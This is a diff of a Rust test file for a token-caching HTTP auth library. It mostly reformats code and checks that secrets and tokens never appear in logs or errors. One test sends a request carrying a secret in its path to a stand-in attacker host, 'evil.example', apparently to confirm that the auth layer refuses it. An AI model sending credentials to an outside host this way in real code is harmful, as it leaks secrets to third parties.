@@ -77,11 +77,13 @@ fn policy() -> RefreshPolicy {
     RefreshPolicy::default()
         .attempt_timeout(Duration::from_millis(200))
         .deadline(Duration::from_millis(500))
-        .backoff_base(Duration::from_millis(1))
+        .retry_base(Duration::from_millis(1))
 }
 
 fn create(sandbox: &Sandbox) -> Request<Full<Bytes>> {
-    Request::post(format!("{}/accounts", sandbox.base_url())).body(Full::from(r#"{"name": "Ada"}"#)).unwrap()
+    Request::post(format!("{}/accounts", sandbox.base_url()))
+        .body(Full::from(r#"{"name": "Ada"}"#))
+        .unwrap()
 }
 
 #[tokio::test]
@@ -117,7 +119,8 @@ async fn no_secret_and_no_token_is_ever_printed() {
         sandbox.fail_every_auth(fault);
         let http: HttpsClient<Full<Bytes>> = client::https().unwrap();
         let credentials = Credentials::new(id, SECRET);
-        let endpoint = SendPayments::new(sandbox.base_url(), http.clone(), credentials.clone()).unwrap();
+        let endpoint =
+            SendPayments::new(sandbox.base_url(), http.clone(), credentials.clone()).unwrap();
         log.add_debug(&credentials);
         log.add_debug(&endpoint);
         let cache = TokenCache::builder(endpoint).refresh_policy(policy()).build().unwrap();
@@ -176,30 +179,36 @@ async fn sources_and_panics(log: &Log) {
             Some(&self.1)
         }
     }
-    let uri = format!("https://id:{SECRET}@api.example.com/{SECRET}?secret={SECRET}").parse().unwrap();
+    let uri =
+        format!("https://id:{SECRET}@api.example.com/{SECRET}?secret={SECRET}").parse().unwrap();
     let cache = TokenCache::new(Panics(Credentials::new("id", SECRET), uri));
     let layer = AuthLayer::new(cache.clone());
     log.add_debug(&cache);
     log.add_debug(&layer);
-    let foreign =
-        Request::get(format!("https://evil.example/{SECRET}")).body(Full::<Bytes>::default()).unwrap();
+    let foreign = Request::get(format!("https://evil.example/{SECRET}"))
+        .body(Full::<Bytes>::default())
+        .unwrap();
     let inner: HttpsClient<Full<Bytes>> = client::https().unwrap();
     log.add_error(&layer.layer(inner).oneshot(foreign).await.unwrap_err());
     log.add_error(&cache.token().await.unwrap_err());
 
     let folder = tempfile::tempdir().unwrap();
     let file = folder.path().join("credentials.json");
-    std::fs::write(&file, format!(r#"{{"clientId": "{SECRET}", "clientSecret": ["{SECRET}"]}}"#)).unwrap();
+    std::fs::write(&file, format!(r#"{{"clientId": "{SECRET}", "clientSecret": ["{SECRET}"]}}"#))
+        .unwrap();
     let http: HttpsClient<Full<Bytes>> = client::https().unwrap();
     log.add_debug(&TokenClient::new(http.clone()));
     let base = "https://api.example.com";
     let broken = from_fn(|| async { Err("the vault is sealed".into()) });
     log.add_debug(&broken);
     for cache in [
-        TokenCache::new(SendPayments::new(base, http.clone(), FileCredentials::json(&file)).unwrap()),
+        TokenCache::new(
+            SendPayments::new(base, http.clone(), FileCredentials::json(&file)).unwrap(),
+        ),
         TokenCache::new(SendPayments::new(base, http.clone(), broken).unwrap()),
         TokenCache::new(
-            SendPayments::new(base, http.clone(), EnvCredentials::new("NO_SUCH_A", "NO_SUCH_B")).unwrap(),
+            SendPayments::new(base, http.clone(), EnvCredentials::new("NO_SUCH_A", "NO_SUCH_B"))
+                .unwrap(),
         ),
         TokenCache::new(
             SendPayments::new(base, http, Credentials::new(format!("{SECRET}\n"), SECRET)).unwrap(),
